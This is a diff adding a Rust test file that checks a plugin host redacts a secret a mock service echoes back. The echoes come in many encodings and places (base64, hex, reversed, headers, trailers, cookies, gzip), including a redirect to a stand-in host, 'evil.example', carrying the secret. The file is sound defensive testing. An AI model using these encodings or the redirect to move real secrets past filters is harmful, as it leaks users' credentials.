@@ -1,0 +1,253 @@
+//! A service that repeats the secret it was sent, in every way it could: the plugin learns nothing of
+//! it, or what it does learn is what no host can keep from it (SECURITY.md says so).
+
+use base64::Engine as _;
+use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
+use rstest::rstest;
+
+use crate::server::Server;
+use crate::stage::{SECRET, Stage};
+
+const BLANKS: &str = " not-a-real-secret-4711/+x ";
+
+fn answer(headers: &str, body: impl AsRef<[u8]>) -> Vec<u8> {
+    let body = body.as_ref();
+    let head = format!(
+        "HTTP/1.1 200 OK\r\n{headers}content-length: {}\r\n\r\n",
+        body.len()
+    );
+    [head.as_bytes(), body].concat()
+}
+
+/// What the form's one value was.
+fn sent(body: &str) -> String {
+    let pairs = url::Url::parse(&format!("https://form.example/?{body}")).unwrap();
+    let value = pairs.query_pairs().next().unwrap().1.into_owned();
+    assert_eq!(value.trim(), SECRET, "the service was told the secret");
+    value
+}
+
+fn json(text: &str) -> Vec<u8> {
+    answer("", serde_json::json!({ "m": text }).to_string())
+}
+
+fn plain(body: &str) -> Vec<u8> {
+    json(&format!("wrong: {}", sent(body)))
+}
+
+fn trimmed(body: &str) -> Vec<u8> {
+    json(&format!("wrong: {}.", sent(body).trim()))
+}
+
+fn percent(body: &str) -> Vec<u8> {
+    let all: String = sent(body).bytes().map(|it| format!("%{it:02X}")).collect();
+    json(&all)
+}
+
+fn base64(body: &str) -> Vec<u8> {
+    json(&STANDARD.encode(format!("client:{}", sent(body))))
+}
+
+fn base64url(body: &str) -> Vec<u8> {
+    json(&URL_SAFE_NO_PAD.encode(sent(body)))
+}
+
+fn hexadecimal(body: &str) -> Vec<u8> {
+    json(
+        &sent(body)
+            .bytes()
+            .map(|it| format!("{it:02x}"))
+            .collect::<String>(),
+    )
+}
+
+fn reversed(body: &str) -> Vec<u8> {
+    json(&sent(body).chars().rev().collect::<String>())
+}
+
+fn escaped(body: &str) -> Vec<u8> {
+    let units: String = sent(body)
+        .encode_utf16()
+        .map(|it| format!("\\u{it:04x}"))
+        .collect();
+    answer("", format!("{{\"m\":\"{units}\"}}"))
+}
+
+fn member_name(body: &str) -> Vec<u8> {
+    answer(
+        "",
+        serde_json::json!({ sent(body): { "token": "x" }, "m": 1 }).to_string(),
+    )
+}
+
+fn in_a_header(body: &str) -> Vec<u8> {
+    answer(&format!("x-echo: {}\r\n", sent(body)), "{}")
+}
+
+fn header_name(body: &str) -> Vec<u8> {
+    let name: String = sent(body).bytes().map(|it| format!("{it:02x}")).collect();
+    answer(&format!("x-{name}: 1\r\n"), "{}")
+}
+
+fn reason_phrase(body: &str) -> Vec<u8> {
+    let secret = sent(body);
+    format!("HTTP/1.1 400 wrong {secret}\r\ncontent-length: 2\r\n\r\n{{}}").into_bytes()
+}
+
+fn trailer(body: &str) -> Vec<u8> {
+    let secret = sent(body);
+    format!(
+        "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\ntrailer: x-echo\r\n\r\n2\r\n{{}}\r\n0\r\n\
+         x-echo: {secret}\r\n\r\n"
+    )
+    .into_bytes()
+}
+
+fn html(body: &str) -> Vec<u8> {
+    answer(
+        "content-type: text/html\r\n",
+        format!("<b>{}</b>", sent(body)),
+    )
+}
+
+fn content_type(body: &str) -> Vec<u8> {
+    answer(&format!("content-type: x/{}\r\n", sent(body)), "<b>")
+}
+
+fn two_documents(body: &str) -> Vec<u8> {
+    answer("", format!("{{}}\n{{\"m\":\"{}\"}}", sent(body)))
+}
+
+fn gzip(_: &str) -> Vec<u8> {
+    // Whatever it holds: nobody asked for it, so nobody unpacks it.
+    answer(
+        "content-encoding: gzip\r\n",
+        b"\x1f\x8b\x08\0\0\0\0\0\0\x03\xab\xae\x05\0",
+    )
+}
+
+fn duplicated_member(body: &str) -> Vec<u8> {
+    answer("", format!("{{\"m\":\"{}\",\"m\":1}}", sent(body)))
+}
+
+fn cookie(body: &str) -> Vec<u8> {
+    answer(&format!("set-cookie: s={}\r\n", sent(body)), "{}")
+}
+
+fn redirect(body: &str) -> Vec<u8> {
+    let secret = sent(body);
+    format!("HTTP/1.1 302 Found\r\nlocation: https://evil.example/?{secret}\r\ncontent-length: 2\r\n\r\n{{}}")
+        .into_bytes()
+}
+
+fn token_in_two_places(_: &str) -> Vec<u8> {
+    let token = "not-a-real-token-0815";
+    answer(
+        &format!("x-echo: {token}\r\n"),
+        format!("{{\"access_token\":\"{token}\"}}"),
+    )
+}
+
+#[rstest]
+#[case::plain(plain, SECRET)]
+#[case::without_the_blanks_around_it(trimmed, BLANKS)]
+#[case::percent_encoded(percent, SECRET)]
+#[case::base64(base64, SECRET)]
+#[case::base64url(base64url, SECRET)]
+#[case::hexadecimal(hexadecimal, SECRET)]
+#[case::reversed(reversed, SECRET)]
+#[case::as_json_escapes(escaped, SECRET)]
+#[case::as_a_members_name(member_name, SECRET)]
+#[case::in_a_header(in_a_header, SECRET)]
+#[case::as_a_headers_name(header_name, SECRET)]
+#[case::in_the_reason_phrase(reason_phrase, SECRET)]
+#[case::in_a_trailer(trailer, SECRET)]
+#[case::in_html(html, SECRET)]
+#[case::in_the_content_type(content_type, SECRET)]
+#[case::in_a_second_document(two_documents, SECRET)]
+#[case::compressed(gzip, SECRET)]
+#[case::in_a_duplicated_member(duplicated_member, SECRET)]
+#[case::in_a_cookie(cookie, SECRET)]
+#[case::in_a_redirect(redirect, SECRET)]
+#[case::a_new_token_in_body_and_header(token_in_two_places, SECRET)]
+#[tokio::test]
+async fn what_a_service_repeats_is_not_told(
+    #[case] answer: fn(&str) -> Vec<u8>,
+    #[case] secret: &str,
+) {
+    let server = Server::answers(answer).await;
+    let stage = Stage::new().await.mapped_to(&server).with_secret(secret);
+    let seen = stage.send("tell-all", "/").await.unwrap();
+    assert!(
+        seen.starts_with("Ok("),
+        "an answer, whatever it holds: {seen}"
+    );
+    let backwards: String = SECRET.chars().rev().collect();
+    let digits: String = SECRET.bytes().map(|it| format!("{it:02x}")).collect();
+    let encoded = STANDARD.encode(SECRET);
+    let encoded = &encoded[4..encoded.len() - 4];
+    for spelling in [
+        SECRET,
+        &backwards,
+        &digits,
+        encoded,
+        "not-a-real",
+        "%6E%6F%74",
+    ] {
+        assert!(!seen.contains(spelling), "{spelling} in {seen}");
+    }
+}
+
+fn halves(body: &str) -> Vec<u8> {
+    let secret = sent(body);
+    let (a, b) = secret.split_at(secret.len() / 2);
+    answer("", serde_json::json!({ "a": a, "b": b }).to_string())
+}
+
+/// The limit of it, on record: a service that takes a secret apart tells the plugin what it, the
+/// service, knew before. Where that must not be, the service must not be allowed.
+#[tokio::test]
+async fn a_secret_taken_apart_is_beyond_what_a_host_can_see() {
+    let server = Server::answers(halves).await;
+    let stage = Stage::new().await.mapped_to(&server);
+    let seen = stage.send("tell-all", "/").await.unwrap();
+    assert!(seen.contains("not-a-real-s"), "{seen}");
+    assert!(!seen.contains(SECRET), "{seen}");
+}
+
+fn many_tokens(_: &str) -> Vec<u8> {
+    let tokens: Vec<String> = (0..2000)
+        .map(|it| format!("not-a-real-token-{it}"))
+        .collect();
+    answer(
+        "",
+        serde_json::json!({ "token": tokens, "m": 1 }).to_string(),
+    )
+}
+
+#[tokio::test]
+async fn an_answer_made_of_secrets_is_withheld_whole() {
+    let server = Server::answers(many_tokens).await;
+    let stage = Stage::new().await.mapped_to(&server);
+    let seen = stage.send("tell-all", "/").await.unwrap();
+    assert!(
+        seen.contains("Withheld") && seen.contains("sealed: []"),
+        "{seen}"
+    );
+}
+
+#[rstest]
+#[case::all_of_it("", "200 {}")]
+#[case::a_member("/echo", "200 {}")]
+#[case::a_member_that_is_not_there("/absent", "200 {\"echo\":\"\"}")]
+#[case::no_pointer("\u{0}~", "200 {\"echo\":\"\"}")]
+#[tokio::test]
+async fn a_plugin_can_ask_for_more_and_never_for_less(
+    #[case] pointer: &str,
+    #[case] expected: &str,
+) {
+    let server = Server::echoes().await;
+    let stage = Stage::new().await.mapped_to(&server).with_extra(pointer);
+    let seen = stage.send("seal-more", "/").await.unwrap();
+    assert_eq!(seen, expected);
+}
